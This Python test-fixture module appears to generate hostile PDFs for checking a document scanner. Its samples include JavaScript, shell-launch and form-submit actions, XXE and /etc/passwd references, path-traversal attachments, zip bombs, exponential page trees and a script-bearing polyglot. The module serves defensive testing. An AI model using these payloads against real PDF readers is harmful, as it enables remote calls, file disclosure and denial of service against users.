"""PDFs hostile by their structure: what they would run or fetch, trees, tables of references, encryption, boxes."""

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache, partial

import pikepdf

from hostiles.ecriture import APPEL, TEXTE, Hostile, Objets, bombe, ecrire, flux, pdf, une_page
from pipeline.erreurs import ErreurDeliberation, ScanChiffre, ScanIllisible, ScanTropGrand, ScanVide


def action(corps: bytes) -> bytes:
    return pdf(
        une_page(TEXTE, catalogue=b"/OpenAction << /Type /Action %s >>" % corps, cles=b"/AA << /O << %s >> >>" % corps)
    )


def lien(corps: bytes) -> bytes:
    note = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << %s >> >>" % corps
    return pdf(une_page(TEXTE, cles=b"/Annots [5 0 R]", autres={5: note}))


def flux_ailleurs(fichier: bytes) -> bytes:
    """An image whose data are in another file, or at an address."""
    objet = (
        b"<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceGray "
        b"/F %s /Length 0 >>\nstream\n\nendstream" % fichier
    )
    return pdf(une_page(TEXTE + b"q 99 0 0 99 0 0 cm /I Do Q", b"/XObject << /I 5 0 R >>", autres={5: objet}))


def opi() -> bytes:
    """A form that stands for the page of another document (reference XObject), and an OPI picture."""
    forme = flux(
        b"",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F (%s) >> /Page 0 >> "
        b"/OPI << /2.0 << /Type /OPI /F (/etc/passwd) >> >>" % APPEL,
    )
    return pdf(une_page(TEXTE + b"/X Do", b"/XObject << /X 5 0 R >>", autres={5: forme}))


def formulaire_xfa() -> bytes:
    xfa = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><x>&e;</x></xdp:xdp>'
    return pdf(une_page(TEXTE, catalogue=b"/AcroForm << /Fields [] /XFA 5 0 R >>", autres={5: flux(xfa % APPEL)}))


def piece_jointe() -> bytes:
    archive = b"PK\x03\x04" + bombe(1 << 26)
    catalogue = b"/Names << /EmbeddedFiles << /Names [(../../intrus) 5 0 R] >> >>"
    fichier = b"<< /Type /Filespec /F (../../../tmp/intrus.zip) /EF << /F 6 0 R >> >>"
    return pdf(une_page(TEXTE, catalogue=catalogue, autres={5: fichier, 6: flux(archive, b"/Type /EmbeddedFile")}))


def arbre(deux: bytes, autres: Objets | None = None) -> bytes:
    """A document whose page tree is ``deux``."""
    return pdf({**une_page(TEXTE), 2: deux, **(autres or {})})


def profond(ouvre: bytes, ferme: bytes, fois: int = 200_000) -> bytes:
    return pdf(une_page(TEXTE, autres={5: ouvre * fois + ferme * fois}, cles=b"/Nid 5 0 R"))


def boite(valeur: bytes, cles: bytes = b"") -> bytes:
    return pdf(une_page(TEXTE, cles=b"/MediaBox [%s] %s" % (valeur, cles)))


def arbre_profond(fois: int = 3000) -> bytes:
    """Page nodes inside page nodes."""
    noeuds = {
        10 + n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (9 + n if n else 2, 11 + n)
        for n in range(fois)
    }
    return arbre(b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>", {**noeuds, 10 + fois: une_page(TEXTE)[3]})


def deux_puissance_n(fois: int = 40) -> bytes:
    """Each node holds the next one twice: 2^40 pages in a few lines."""
    noeuds = {
        10 + n: b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count %d >>" % (11 + n, 11 + n, 2 ** (fois - n))
        for n in range(fois)
    }
    racine = b"<< /Type /Pages /Kids [10 0 R] /Count %d >>" % 2**fois
    return arbre(racine, {**noeuds, 10 + fois: une_page(TEXTE)[3]})


def trop_d_enfants(nombre: int) -> bytes:
    """The same page, so many times."""
    return arbre(b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * nombre, nombre))


@cache
def chiffre(ouvreur: str, proprietaire: str = "o") -> bytes:
    sortie = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(une_page(TEXTE)))) as document:
        document.save(sortie, encryption=pikepdf.Encryption(owner=proprietaire, user=ouvreur))
    return sortie.getvalue()


def chiffre_inconnu() -> bytes:
    return pdf(une_page(TEXTE), b"/Encrypt << /Filter /Inconnu /V 99 /R 99 /O (x) /U (y) /P -1 >> /ID [(a) (a)]")


def prev_a_soi() -> bytes:
    octets = pdf(une_page(TEXTE), b"/Prev 0000000000 /XRefStm 0000000000")
    place = b"%010d" % octets.rindex(b"xref\n", 0, octets.rindex(b"startxref"))
    return octets.replace(b"0000000000 /XRefStm 0000000000", place + b" /XRefStm " + place)


def references_comprimees(donnees: bytes, taille: int) -> bytes:
    """A file whose table of references is a stream."""
    tete = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    objet = flux(donnees, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % taille)
    return tete + b"9 0 obj\n" + objet + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(tete)


def objets_comprimes() -> bytes:
    """The page tree is in an object stream of 2 GB."""
    objets = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        5: flux(bombe(2 << 30, b"  2 0 << >> "), b"/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode"),
    }
    tete, places = bytearray(b"%PDF-1.7\n"), {}
    for numero, objet in objets.items():
        places[numero] = len(tete)
        tete += b"%d 0 obj\n%s\nendobj\n" % (numero, objet)
    rangs = [(0, 0, 0), (1, places[1], 0), (2, 5, 0), (0, 0, 0), (0, 0, 0), (1, places[5], 0), (1, len(tete), 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *r) for r in rangs))
    objet = flux(table, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode")
    return bytes(tete) + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (objet, len(tete))


def polyglotte() -> bytes:
    """A ZIP and a web page before, a PDF after."""
    return b"PK\x03\x04<html><script src=" + APPEL + b"></script>" + bytes(200) + pdf(une_page(TEXTE))


URL = b"(" + APPEL + b")"
_SCRIPT = b"/S /JavaScript /JS (app.launchURL\\('" + APPEL + b"'\\); while\\(true\\){})"
_PAGE = une_page(TEXTE)[3]

_TOUS: tuple[tuple[str, Callable[[], bytes], type[ErreurDeliberation] | None, str], ...] = (
    ("javascript", partial(action, _SCRIPT), None, ""),
    ("lancer", partial(action, b"/S /Launch /F (/bin/sh) /Unix << /F (touch) /P (intrus) >>"), None, ""),
    ("adresse", partial(action, b"/S /URI /URI " + URL), None, ""),
    ("autre-document", partial(action, b"/S /GoToR /F << /FS /URL /F " + URL + b" >> /D [0 /Fit]"), None, ""),
    ("envoyer", partial(action, b"/S /SubmitForm /F << /FS /URL /F " + URL + b" >>"), None, ""),
    ("lien", partial(lien, b"/S /URI /URI " + URL), None, ""),
    ("flux-adresse", partial(flux_ailleurs, b"<< /FS /URL /F " + URL + b" >>"), None, ""),
    ("flux-fichier", partial(flux_ailleurs, b"(/etc/passwd)"), None, ""),
    ("reference-opi", opi, None, ""),
    ("xfa", formulaire_xfa, None, ""),
    ("piece-jointe", piece_jointe, None, ""),
    (
        "polices-ailleurs",
        lambda: pdf(
            {
                **une_page(TEXTE),
                9: b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor << /FontFile2 6 0 R >> >>",
                6: b"<< /F " + URL + b" /Length 0 >>\nstream\n\nendstream",
            }
        ),
        None,
        "",
    ),
    ("arbre-sans-fin", lambda: arbre(b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"), ScanIllisible, "endommagé"),
    ("parent-de-soi", lambda: arbre(b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1 >>"), None, ""),
    ("arbre-profond", arbre_profond, ScanIllisible, "endommagé"),
    ("arbre-doublant", deux_puissance_n, ScanIllisible, "endommagé"),
    ("million-de-pages", lambda: arbre(b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>"), None, ""),
    ("pages-negatives", lambda: arbre(b"<< /Type /Pages /Kids [3 0 R] /Count -5 >>"), None, ""),
    ("meme-page-cent-mille-fois", partial(trop_d_enfants, 100_000), ScanTropGrand, "100000 pages"),
    ("enfants-faux", lambda: arbre(b"<< /Type /Pages /Kids [null 7 (a) 99 0 R] /Count 4 >>"), ScanVide, "aucune page"),
    ("sans-pages", lambda: arbre(b"<< /Type /Pages /Kids [] /Count 0 >>"), ScanVide, "aucune page"),
    ("pages-absentes", lambda: pdf({1: b"<< /Type /Catalog >>"}), ScanIllisible, "endommagé"),
    ("catalogue-a-soi", lambda: pdf({1: b"1 0 R"}), ScanIllisible, "endommagé"),
    ("tableaux-profonds", partial(profond, b"[", b"]"), None, ""),
    ("dictionnaires-profonds", partial(profond, b"<</a", b">>"), None, ""),
    ("boite-geante", partial(boite, b"0 0 99999999 99999999"), None, "cm"),
    ("boite-infinie", partial(boite, b"0 0 1" + b"0" * 400 + b" 842"), ScanVide, "aucune page"),
    ("boite-negative", partial(boite, b"595 842 0 0"), None, ""),
    ("boite-nulle", partial(boite, b"0 0 0 0"), None, ""),
    ("boite-nan", partial(boite, b"0 0 nan inf"), None, ""),
    ("boite-courte", partial(boite, b"0 0 595"), None, ""),
    ("boite-filiforme", partial(boite, b"0 0 1 90000"), None, ""),
    ("unite", partial(boite, b"0 0 595 842", b"/UserUnit 1000000"), None, ""),
    ("unite-nulle", partial(boite, b"0 0 595 842", b"/UserUnit 0"), None, ""),
    ("unite-fausse", partial(boite, b"0 0 595 842", b"/UserUnit (a)"), None, ""),
    ("tour-37", partial(boite, b"0 0 595 842", b"/Rotate 37"), None, ""),
    ("tour-faux", partial(boite, b"0 0 595 842", b"/Rotate (a)"), None, ""),
    (
        "ressources-fausses",
        lambda: pdf(
            {
                **une_page(TEXTE),
                3: b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources (a) /MediaBox [0 0 595 842] >>",
            }
        ),
        None,
        "",
    ),
    ("contenu-a-soi", lambda: pdf({**une_page(TEXTE), 4: b"[4 0 R 4 0 R]"}), None, ""),
    ("longueur-a-soi", lambda: pdf({**une_page(TEXTE), 4: b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"}), None, ""),
    ("sans-table", lambda: pdf(une_page(TEXTE)).split(b"xref\n")[0], ScanIllisible, "tronqué"),
    ("table-fausse", lambda: pdf(une_page(TEXTE)).replace(b" 00000 n", b" 00009 n"), ScanIllisible, "endommagé"),
    ("table-a-soi", prev_a_soi, None, ""),
    ("table-geante", lambda: references_comprimees(bombe(3 << 30), 2_000_000_000), ScanIllisible, "endommagé"),
    ("objets-comprimes", objets_comprimes, ScanIllisible, "endommagé|mémoire"),
    ("chiffre", partial(chiffre, "secret"), ScanChiffre, "mot de passe"),
    ("chiffre-sans-mot", partial(chiffre, ""), None, ""),
    ("chiffre-inconnu", chiffre_inconnu, ScanIllisible, "endommagé"),
    ("entete-loin", lambda: b"\n" * 900 + pdf(une_page(TEXTE)), None, ""),
    ("entete-trop-loin", lambda: b"\n" * 2000 + pdf(une_page(TEXTE)), ScanIllisible, "ni un PDF"),
    ("polyglotte", polyglotte, None, ""),
    ("tete-seule", lambda: b"%PDF-1.7\n", ScanIllisible, "endommagé"),
    ("cent-mille-objets", lambda: pdf({**une_page(TEXTE), **dict.fromkeys(range(10, 60000), b"null")}), None, ""),
)

DOCUMENTS = tuple(Hostile(f"{nom}.pdf", ecrire(contenu), refus, dit) for nom, contenu, refus, dit in _TOUS)
